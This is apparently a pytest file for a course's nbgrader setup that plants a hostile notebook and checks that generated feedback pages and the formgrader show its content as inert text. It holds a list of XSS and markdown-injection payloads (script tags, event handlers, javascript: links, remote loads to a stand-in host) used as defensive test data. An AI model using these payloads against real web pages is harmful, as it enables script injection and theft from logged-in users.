@@ -1,0 +1,494 @@
+"""Feedback pages and the formgrader show what a submission holds, and none of it acts.
+
+A hostile notebook lies in autograded/ as if no step of the grading had cleaned it. nbgrader's own
+commands make pages of it. They are read as HTML, and opened in a browser.
+"""
+
+import base64
+import copy
+import io
+import os
+import secrets
+import socket
+import subprocess
+import sys
+import threading
+
+import nbformat
+import pytest
+from bs4 import BeautifulSoup
+from classroom import Classroom, cell
+from matplotlib.figure import Figure
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
+from site_browser import Traffic
+
+from grading.nbgrader_setup.settings import settings
+from grading.release import exercises
+from grading.reports import feedback
+from grading.reports import feedback_page as pages
+
+pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")
+NAME = "int8-weights"
+STUDENT = "mallory"
+ELSEWHERE = "http://elsewhere.example"  # where a page that is not inert would send something
+RUN = f"document.documentElement.dataset.ran=1;fetch('{ELSEWHERE}/ran')"
+ATTACKS = {
+    "script": f"<script>{RUN}</script>",
+    "remote-script": f'<script src="{ELSEWHERE}/x.js"></script>',
+    "closing": f"</pre></code></div></textarea></style></title><script>{RUN}</script>",
+    "handler": f'<img src="x" onerror="{RUN}">',
+    "svg": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
+    "mathml": f'<math><mtext><style><img src=x onerror="{RUN}"></style></mtext></math>',
+    "iframe": f'<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="<script>1</script>">',
+    "object": f'<object data="{ELSEWHERE}/o"></object><embed src="{ELSEWHERE}/e">',
+    "form": f'<form action="{ELSEWHERE}"><input autofocus onfocus="{RUN}"><button>go</button>',
+    "style": f'<style>@import "{ELSEWHERE}/s.css"; body {{ display: none }}</style>',
+    "style-attribute": f'<p style="background: url({ELSEWHERE}/b.png)">p</p>',
+    "link": f'<link rel="stylesheet" href="{ELSEWHERE}/l.css"><a href="javascript:{RUN}">a</a>',
+    "meta": f'<meta http-equiv="refresh" content="0; url={ELSEWHERE}/m"><base href="{ELSEWHERE}">',
+    "details": f'<details open ontoggle="{RUN}"><summary>s</summary></details>',
+    "media": f'<video poster="{ELSEWHERE}/v.png" src="{ELSEWHERE}/v" autoplay></video>',
+    "remote-picture": f'<img src="{ELSEWHERE}/p.png" srcset="{ELSEWHERE}/q.png 2x">',
+    "namesakes": '<b id="bounds" class="full-credit" name="submission_id">b</b>',
+    "ansi": f"\x1b[31m<script>{RUN}</script>\x1b[0m\x1b]0;title\x07\x1b[38;5;999999999999m",
+    "attribute": f'" onmouseover="{RUN}" x="',
+    "template": "{{ 7 * 7 }} {% raw %}",
+}
+MARKDOWN = {
+    "markdown-link": f"[click](javascript:{RUN})",
+    "data-link": "[click](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)",
+    "file-link": "[click](evil.html)",
+    "web-link": f"[click]({ELSEWHERE}/click)",
+    "web-picture": f"![alt]({ELSEWHERE}/p.png)",
+    "picture-with-quotes": f'![a" onerror="{RUN}](x "y\' onerror=\'{RUN}")',
+    "reference": f"[x][y]\n\n[y]: javascript:{RUN}",
+    "autolink": f"<javascript:{RUN}> {ELSEWHERE}/auto",
+    "fence": f"```html\n<script>{RUN}</script>\n```",
+    "mermaid": f"```mermaid\n</pre><script>{RUN}</script>\n```",
+    "fence-language": f'```"><script>{RUN}</script>\nx\n```',
+    "heading": f"# <script>{RUN}</script>",
+    "table": f"| a | b |\n|:-:|---|\n| <img src=x onerror={RUN}> | b |",
+    "tasks": "- [x] done\n- [ ] not done",
+    "formula": f"$a < b$ and $$<script>{RUN}</script>$$ \\begin{{x}}<b onclick=1>\\end{{x}}",
+    "svg-attached": "![a](attachment:a.svg)",
+    "page-attached": "![a](attachment:a.html)",
+    "missing": "![a](attachment:nowhere.png)",
+    "deep": "> " * 1500 + "deep",
+}
+PNG = base64.b64decode(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII="
+)
+SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='1'/>").decode()
+ACTIVE = (
+    *("script", "style", "link", "meta", "base", "template", "noscript", "portal"),
+    *("iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math"),
+    *("form", "input", "button", "select", "textarea", "video", "audio", "source"),
+)
+
+
+def shown(content, kind="image/png"):
+    return {kind: base64.b64encode(content).decode()}
+
+
+def hostile(released):
+    """The released notebook with attacks wherever a notebook can hold text."""
+    nb = copy.deepcopy(released)
+    script = ATTACKS["closing"]
+    for name, text in ATTACKS.items():
+        loud = new_code_cell(f"# {text}", metadata={"name": text, "tags": [text]})
+        loud.outputs = [
+            new_output("stream", name="stdout", text=f"out {name} {text}"),
+            new_output("stream", name="stderr", text=text),
+            new_output("error", ename=text, evalue=text, traceback=[text]),
+            new_output("display_data", {"text/plain": f"plain {name} {text}", "text/html": text}),
+            new_output("display_data", {"text/html": text}, metadata={"isolated": True}),
+            new_output(
+                "display_data", {"text/html": text}, metadata={"text/html": {"isolated": 1}}
+            ),
+            new_output("display_data", {"text/markdown": text, "text/latex": text}),
+            new_output("execute_result", {"application/javascript": RUN}, execution_count=1),
+            new_output("display_data", {"image/svg+xml": text, "application/pdf": "x"}),
+            new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"a": text}}),
+            new_output("display_data", {"text/vnd.mermaid": text, text: text}),
+            new_output(
+                "display_data", {"image/png": f'x"{text}'}, metadata={"image/png": {"width": text}}
+            ),
+            new_output("display_data", shown(PNG), metadata={"image/png": {"alt": text}}),
+            new_output("display_data", shown(b"<script>", "image/jpeg")),
+            new_output("display_data", shown(PNG), metadata={"filenames": {"image/png": text}}),
+        ]
+        nb.cells += [
+            loud,
+            new_markdown_cell(f"md {name} {text}", metadata={"tags": [text], "alt": text}),
+            new_raw_cell(text, metadata={"raw_mimetype": "text/html"}),
+            new_raw_cell(text),
+        ]
+    attached = {
+        "a.svg": {"image/svg+xml": SVG},
+        "a.html": {"text/html": base64.b64encode(script.encode()).decode()},
+        "a.png": {"image/png": f'x" onerror="{RUN}'},
+    }
+    for name, text in MARKDOWN.items():
+        nb.cells.append(new_markdown_cell(f"{text}", attachments=attached, metadata={"name": name}))
+    for one in nb.cells[-3:]:
+        one.id = "not-" + secrets.token_hex(4)
+    answer = next(one for one in nb.cells if one.metadata.get("nbgrader", {}).get("solution"))
+    answer.source = f'"""{script}"""'
+    nb.metadata.update(
+        title=script,
+        authors=[{"name": script}],
+        language_info={"name": script, "pygments_lexer": script, "codemirror_mode": script},
+        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"x": script}}},
+    )
+    nb.metadata.kernelspec = {"name": script, "display_name": script, "language": script}
+    return nb
+
+
+@pytest.fixture(scope="module")
+def room(tmp_path_factory):
+    """A course in which somebody has put the hostile notebook where graded ones lie."""
+    room = Classroom(tmp_path_factory.mktemp("course"))
+    room.course.release([NAME])
+    nb = hostile(room.released(NAME))
+    (part, *_) = exercises.load(NAME).parts
+    says = f"{part.key}: 2 of {part.points:g} points.\nThe sentence about it.\n"
+    cell(nb, part.key).outputs = [new_output("stream", name="stdout", text=says)]
+    solution = cell(nb, f"{part.key}-solution").metadata.nbgrader.grade_id
+    with room.course.gradebook() as gradebook:
+        gradebook.update_or_create_student(STUDENT)
+        submission = gradebook.update_or_create_submission(NAME, STUDENT)
+        for grade in submission.notebooks[0].grades:
+            grade.auto_score = 2 if grade.name == part.key else 0
+        for comment in submission.notebooks[0].comments:
+            if comment.name == solution:
+                comment.manual_comment = f"Well *done*. {ATTACKS['script']}"
+        gradebook.db.commit()
+        room.submission = submission.notebooks[0].id
+    graded = room.course.graded(STUDENT, NAME)
+    graded.parent.mkdir(parents=True)
+    nbformat.write(nb, graded)
+    return room
+
+
+@pytest.fixture(scope="module", params=["the command", "the programming interface"])
+def page(request, room):
+    """A feedback page, as each of nbgrader's ways writes it."""
+    file = room.course.feedback(STUDENT, NAME)
+    file.unlink(missing_ok=True)
+    if request.param == "the command":
+        command = room.nbgrader("generate_feedback", NAME)
+        assert command.returncode == 0, command.stderr[-2000:]
+    else:
+        with room.course._nbgrader() as api:
+            result = api.generate_feedback(NAME, STUDENT)
+            assert result["success"], result
+    return file
+
+
+def active(soup):
+    """What could act, in the part of a page that comes from a notebook."""
+    found = [str(one)[:200] for one in soup.find_all(ACTIVE)]
+    for one in soup.find_all(True):
+        for name, value in one.attrs.items():
+            text = " ".join(value) if isinstance(value, list) else value
+            local = name == "href" and text.startswith("#")
+            picture = name == "src" and text.startswith(("data:image/png;", "data:image/jpeg;"))
+            harmless = name in ("class", "alt", "id", "name", "start") and ELSEWHERE not in text
+            harmless = harmless or (name, one.name) == ("tabindex", "div")
+            colour = name == "style" and one.name == "span" and text.startswith("color: rgb(")
+            if not (local or (picture and one.name == "img") or harmless or colour):
+                found.append(f"{one.name} {name}={text[:100]}")
+    return found
+
+
+def test_nothing_on_a_feedback_page_can_act(page):
+    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
+    assert active(soup.body) == []
+    head = {one.name for one in soup.head.find_all(True)}
+    assert head == {"meta", "title", "style"}
+    (policy,) = soup.head.find_all("meta", attrs={"http-equiv": True})
+    assert policy["content"].startswith("default-src 'none'; img-src data:;")
+    styles = "".join(style.get_text() for style in soup.head.find_all("style"))
+    assert ELSEWHERE not in styles
+    assert soup.title.get_text() == NAME
+
+
+def test_nothing_on_a_page_that_make_grade_writes_can_act(room):
+    parts = [
+        {"key": part.key, "points": 0, "of": part.points} for part in exercises.load(NAME).parts
+    ]
+    text = pages.page(room.graded(STUDENT, NAME), NAME, STUDENT, parts, {})
+    soup = BeautifulSoup(text, "html.parser")
+    assert active(soup.body) == []
+    assert "http-equiv" in str(soup.head)
+    assert ATTACKS["closing"] in soup.body.get_text()
+
+
+def test_names_on_a_feedback_page_are_those_of_the_exercise(page):
+    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
+    classes = {one for tag in soup.body.find_all(True) for one in tag.get("class", ())}
+    assert not classes & {"full-credit", "no-credit", "score-saved"}
+    own = {part.key for part in exercises.load(NAME).parts}
+    assert own <= {tag["name"] for tag in soup.body.find_all("a", attrs={"name": True})}
+    assert not own & {tag["id"] for tag in soup.body.find_all(id=True)}
+
+
+def test_what_was_written_is_still_there_as_text(page):
+    text = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser").body.get_text()
+    for name, attack in ATTACKS.items():
+        if name != "ansi":
+            assert text.count(attack) >= 4, name
+            assert f"out {name}" in text
+            assert f"plain {name}" in text
+            assert f"md {name}" in text
+    assert "{{ 7 * 7 }}" in text
+    assert "$a < b$" in text
+
+
+def test_points_sentences_figures_and_comments_are_there(page):
+    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
+    text = soup.get_text()
+    assert "(Score: 2.0 / 20.0)" in text
+    assert "The sentence about it." in text
+    assert "Well done." in text
+    assert soup.find("em").get_text() == "done"
+    pictures = soup.find_all("img")
+    assert len(pictures) == 2 * len(ATTACKS)
+    for picture in pictures:
+        assert base64.b64decode(picture["src"].partition(",")[2]) == PNG
+        assert picture["alt"] == feedback.ALT
+
+
+def test_in_a_browser_nothing_runs_and_nothing_is_asked_for(page, browser):
+    context = browser.new_context()
+    traffic = Traffic().listen(context)
+    tab = context.new_page()
+    tab.goto(page.as_uri())
+    tab.wait_for_load_state("networkidle")
+    assert tab.evaluate("document.documentElement.dataset.ran") is None
+    assert {url for url in traffic.asked if not url.startswith("data:")} == {page.as_uri()}
+    assert traffic.wrong == []
+    assert tab.evaluate("[...document.images].every((one) => one.naturalWidth === 1)")
+    assert tab.title() == NAME
+    context.close()
+
+
+def test_the_policy_would_hold_if_all_else_failed(page, browser, tmp_path):
+    """The second wall, alone: scripts behind it don't run, and pictures are not fetched."""
+    broken = tmp_path / "broken.html"
+    text = page.read_text(encoding="utf-8")
+    start = text.index('<a name="top">')
+    attacks = "".join(ATTACKS[name] for name in ("script", "handler", "remote-picture", "object"))
+    broken.write_text(f"{text[:start]}{attacks}{text[start:]}", encoding="utf-8")
+    context = browser.new_context()
+    tab = context.new_page()
+    tab.goto(broken.as_uri())
+    tab.wait_for_load_state("networkidle")
+    assert tab.evaluate("document.documentElement.dataset.ran") is None
+    assert tab.evaluate("document.images[0].naturalWidth") == 0
+    context.close()
+
+
+# --- the formgrader, where the browser is logged in ----------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def formgrader(room, tmp_path_factory):
+    """The address of a submission in a formgrader, started in the course folder."""
+    with socket.create_server(("127.0.0.1", 0)) as free:
+        port = free.getsockname()[1]
+    home, token = tmp_path_factory.mktemp("home"), secrets.token_hex()
+    places = ("JUPYTER_CONFIG_DIR", "JUPYTER_DATA_DIR", "JUPYTER_RUNTIME_DIR", "IPYTHONDIR")
+    command = [sys.executable, "-m", "jupyter_server", "--no-browser", "--allow-root"]
+    command += ["--ip=127.0.0.1", f"--port={port}", "--ServerApp.port_retries=0"]
+    command += [
+        "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}",
+    ]
+    with subprocess.Popen(
+        command,
+        cwd=room.folder,
+        env=os.environ | {name: str(home / name) for name in places} | {"JUPYTER_TOKEN": token},
+        stderr=subprocess.PIPE,
+        text=True,
+    ) as server:
+        ready, lines = threading.Event(), []
+
+        def listen():
+            for line in server.stderr:
+                lines.append(line)
+                if f"127.0.0.1:{port}/" in line:
+                    ready.set()
+            ready.set()
+
+        listener = threading.Thread(target=listen, daemon=True)
+        listener.start()
+        try:
+            assert ready.wait(60), "".join(lines)
+            assert server.poll() is None, "".join(lines)
+            yield f"http://127.0.0.1:{port}", token
+        finally:
+            server.terminate()
+            listener.join(60)
+
+
+def test_a_page_names_the_parts_and_leaves_out_what_nobody_reads(room):
+    released = room.released(NAME)
+    parts = [{"key": part.key, "points": 0, "of": 1} for part in exercises.load(NAME).parts]
+    html = pages.page(released, NAME, STUDENT, parts, {})
+    links = BeautifulSoup(html, "html.parser").select("#toc a")
+    assert {part["key"] for part in parts} <= {link.get_text() for link in links}
+    assert "Test cell" not in html
+    (cases,) = (one for one in released.cells if "import cases" in one.source)
+    last = cases.source.splitlines()[3]
+    assert last not in html
+    cases.source += "\nmine = 1"
+    assert last in pages.page(released, NAME, STUDENT, parts, {})
+
+
+def test_in_the_formgrader_nothing_of_a_submission_runs(room, formgrader, browser):
+    address, token = formgrader
+    context = browser.new_context()
+    tab = context.new_page()
+    tab.goto(f"{address}/login?token={token}")
+    traffic = Traffic().listen(context)
+    tab.goto(f"{address}/formgrader/submissions/{room.submission}/")
+    tab.wait_for_load_state("networkidle")
+    assert tab.evaluate("document.documentElement.dataset.ran") is None
+    assert traffic.outside(address) == []
+    # The icon of the login page, which was left before it had come, is no part of this one.
+    assert [one for one in traffic.wrong if "/favicon.ico" not in one] == []
+    # It works as it should: scores and comments have come from the gradebook.
+    (part, *_) = exercises.load(NAME).parts
+    assert tab.locator(f"input#{part.key}").get_attribute("placeholder") == "2"
+    comment = tab.locator(f"#{part.key}-solution-comment")
+    assert comment.input_value().startswith("Well *done*.")
+    with tab.expect_response(lambda one: one.request.method == "PUT") as saved:
+        comment.fill("Well *done*.")
+        comment.blur()
+    assert saved.value.ok
+    notebook = BeautifulSoup(tab.content(), "html.parser").find(id="notebook-container")
+    own = notebook.select(".panel-heading, .panel-footer")
+    marked = [one for one in room.graded(STUDENT, NAME).cells if "nbgrader" in one.metadata]
+    assert len(own) < 2 * len(marked)
+    for one in own:  # inputs and buttons of the formgrader
+        one.decompose()
+    assert active(notebook) == []
+    assert len(notebook.find_all("img")) == 2 * len(ATTACKS)
+    context.close()
+
+
+# --- clean ---------------------------------------------------------------------------------------
+
+
+def cleaned(*outputs, **notebook):
+    nb = nbformat.v4.new_notebook(cells=[new_code_cell("1", outputs=list(outputs))], **notebook)
+    feedback.clean(nb)
+    nbformat.validate(nb)
+    return nb
+
+
+def test_a_cleaned_notebook_is_one_that_nbgrader_can_read(room):
+    nb = hostile(room.released(NAME))
+    feedback.clean(nb)
+    nbformat.validate(nb)
+    once = nbformat.writes(nb)
+    kinds = {
+        kind for one in nb.cells for out in one.get("outputs", ()) for kind in out.get("data", ())
+    }
+    assert kinds == {"text/plain", "image/png"}
+    assert not any("attachments" in one for one in nb.cells)
+    assert set(nb.metadata) == {"kernelspec", "language_info"}
+    feedback.clean(nb)
+    assert nbformat.writes(nb) == once
+
+
+def test_what_nbgrader_needs_is_kept(room):
+    before = room.released(NAME)
+    after = copy.deepcopy(before)
+    feedback.clean(after)
+    for was, now in zip(before.cells, after.cells, strict=True):
+        assert now.metadata.get("nbgrader") == was.metadata.get("nbgrader")
+        assert (now.source, now.get("id")) == (was.source, was.get("id"))
+
+
+@pytest.mark.parametrize(
+    "output",
+    [
+        {"output_type": "stream", "name": "<b>", "text": {"a": 1}},
+        {"output_type": "stream", "text": ["a", 1, None]},
+        {"output_type": "error", "ename": 1, "evalue": None, "traceback": "text"},
+        {"output_type": "error"},
+        {"output_type": "display_data", "data": "text"},
+        {"output_type": "display_data", "data": {"image/png": ["!", 1]}},
+        {"output_type": "execute_result", "data": {"text/plain": 1}, "execution_count": "<b>"},
+        {"output_type": "<b>"},
+        {},
+    ],
+)
+def test_an_output_that_no_kernel_sends_becomes_one_that_a_kernel_could_send(output):
+    nb = nbformat.v4.new_notebook(cells=[new_code_cell("1")])
+    nb.cells[0].outputs = [nbformat.from_dict(output)]
+    nb.cells[0].execution_count = "<script>"
+    feedback.clean(nb)
+    nbformat.validate(nb)
+    assert nb.cells[0].execution_count is None
+    assert "<" not in nbformat.writes(nb)
+
+
+def test_text_that_no_file_can_hold_is_made_fit():
+    nb = cleaned(new_output("stream", name="stdout", text="a\ud800b\x00c\x1b[2Jd\x1b[31me"))
+    assert nb.cells[0].outputs[0].text == "abcd\x1b[31me"
+    nbformat.writes(nb).encode()
+
+
+def test_long_outputs_are_cut_with_a_note():
+    (output,) = cleaned(new_output("stream", text="x" * 150_000)).cells[0].outputs
+    assert len(output.text) < 101_000
+    assert output.text.endswith("(50000 more characters are left out here)\n")
+    many = [new_output("stream", text="x" * 90_000) for _ in range(50)]
+    total = sum(len(one.text) for one in cleaned(*many).cells[0].outputs)
+    assert total < 1_010_000
+
+
+@pytest.mark.parametrize("make", ["svg", "text", "html before", "half", "huge", "jpeg as png"])
+def test_only_pictures_are_pictures(make):
+    content = {
+        "svg": b"<svg/>",
+        "text": b"text",
+        "html before": b"<script>" + PNG,
+        "half": PNG[:20],
+        "huge": PNG[:16] + b"\x00\x01\x00\x00" * 2 + PNG[24:],
+        "jpeg as png": b"\xff\xd8\xff\xe0",
+    }[make]
+    (output,) = cleaned(new_output("display_data", shown(content))).cells[0].outputs
+    assert set(output.data) == {"text/plain"}
+    assert output.data["text/plain"] == "(image/png: not shown here)"
+
+
+def test_figures_of_both_kinds_are_kept():
+    for kind, name in (("image/png", "png"), ("image/jpeg", "jpeg")):
+        drawn = io.BytesIO()
+        Figure().savefig(drawn, format=name)
+        (output,) = (
+            cleaned(new_output("display_data", shown(drawn.getvalue(), kind))).cells[0].outputs
+        )
+        assert base64.b64decode(output.data[kind]) == drawn.getvalue()
+
+
+def test_a_page_of_very_many_cells_shows_the_first_and_the_graded(room):
+    nb = room.released(NAME)
+    nb.cells[3:3] = [new_code_cell(f"number_{index}") for index in range(1000)]
+    short = feedback.shortened(nb)
+    assert len(short.cells) < 300
+    assert "cells of this notebook are not shown here" in short.cells[0].source
+    before, after = (
+        [one.metadata.nbgrader.grade_id for one in book.cells if "nbgrader" in one.metadata]
+        for book in (nb, short)
+    )
+    assert after == [key for key in before if key != "cases"]
+
+
+def test_autograde_cleans_last_and_pages_first():
+    config = settings()
+    assert config.Autograde.autograde_preprocessors[-1] is feedback.Clean
+    assert config.HTMLExporter.preprocessors == [feedback.Clean]
